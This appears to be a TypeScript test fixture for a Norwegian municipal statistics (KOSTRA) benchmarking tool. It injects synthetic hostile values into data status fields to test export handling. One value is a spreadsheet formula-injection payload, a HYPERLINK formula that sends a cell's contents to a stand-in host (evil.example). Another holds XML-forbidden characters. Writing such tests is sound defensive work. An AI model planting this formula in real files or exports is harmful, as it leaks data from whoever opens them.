/**
 * A profile built from the embedded sample with hostile text where SSB's status symbols
 * go (SYNTHETIC): Bærum's kunstformidling 2017 missing under a formula as its status,
 * Asker's kunstformidling negative, Asker's bibliotek missing under XML-forbidden characters.
 */
import { benchmark, defaultOptions } from "../../src/kostra/benchmark";
import type { Dataset, Profile } from "../../src/kostra/types";
import { sampleDataset } from "../../src/sources/sample";

export const HYPERLINK_STATUS = '=HYPERLINK("http://evil.example/?"&A2;"klikk")';
export const FORBIDDEN_STATUS = "x\uFFFEy\u0001z\uD800";

export function hostileProfile(status = HYPERLINK_STATUS): Profile {
  const sample = sampleDataset();
  const dataset: Dataset = {
    provenance: sample.provenance,
    observations: sample.observations.map((o) => {
      if (o.year !== 2017) return o;
      if (o.indicator === "kunstformidling" && o.municipality === "baerum") return { ...o, value: null, status };
      if (o.indicator === "kunstformidling" && o.municipality === "asker") return { ...o, value: -12.5 };
      if (o.indicator === "bibliotek" && o.municipality === "asker") return { ...o, value: null, status: FORBIDDEN_STATUS };
      return o;
    }),
  };
  return benchmark(dataset, defaultOptions("plan-miljo-kultur", "0219", 2017));
}
